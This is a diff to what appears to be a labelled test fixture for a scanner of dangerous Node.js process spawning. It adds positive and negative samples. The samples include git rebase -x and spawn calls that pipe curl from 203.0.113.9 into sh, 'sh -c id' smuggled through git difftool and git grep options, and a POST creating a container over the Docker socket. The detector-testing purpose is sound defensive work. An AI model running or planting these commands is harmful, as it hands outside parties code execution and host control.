@@ -578,10 +578,10 @@ require('child_process').execFileSync('npm', ['pkg', 'set', 'scripts.x=curl -s h
 //@ pos net.connect to the Docker socket held in a name
 const SOCK = '/var/run/docker.sock';
 require('net').connect(SOCK);
-//@ pos the Docker socket as a helper's parameter given to socketPath
+//@ pos the Docker socket as a helper's parameter given to socketPath (a POST)
 const settings = { engine: '/run/docker.sock' };
-function get(sock, path) { return require('http').get({ socketPath: sock, path }); }
-get(settings.engine, '/containers/json');
+function post(sock, path) { return require('http').request({ socketPath: sock, path, method: 'POST' }).end(); }
+post(settings.engine, '/containers/create');
 //@ neg node on a test file of a listed directory (path.join(dir, name)), as require of one
 const { spawnSync: s11 } = require('child_process');
 for (const f of require('fs').readdirSync('test')) s11(process.execPath, [require('path').join('test', f)]);
@@ -653,3 +653,20 @@ require('child_process').spawn('git status; curl -s https://203.0.113.9/i | sh',
 //@ neg shell: true in a constant, plain arguments
 const opts = { shell: true, stdio: 'inherit' };
 require('child_process').spawnSync('npm', ['run', 'build'], opts);
+//@ pos git rebase -x runs a command after each commit
+require('child_process').execFileSync('git', ['rebase', '-x', 'curl -s https://203.0.113.9/i | sh', 'main']);
+//@ pos git difftool --extcmd in a spread list
+const viewer = ['--extcmd', 'sh -c "id"'];
+require('child_process').spawnSync('git', ['difftool', '-y', ...viewer]);
+//@ pos git grep --open-files-in-pager= a command
+require('child_process').execFileSync('git', ['grep', '--open-files-in-pager=sh -c id', 'TODO']);
+//@ neg git cherry-pick -x and clean -fdx name no command
+const { execFileSync } = require('child_process');
+execFileSync('git', ['cherry-pick', '-x', 'abc123']);
+execFileSync('git', ['clean', '-fdx']);
+//@ pos a class that extends ChildProcess
+const { ChildProcess } = require('child_process');
+class T extends ChildProcess { go() { return super.spawn({ file: '/bin/sh', args: ['sh', '-c', 'id'], stdio: [] }); } }
+new T().go();
+//@ neg the Docker socket read with http.get only
+require('http').get({ socketPath: '/var/run/docker.sock', path: '/containers/json' }, (r) => r.pipe(process.stdout));
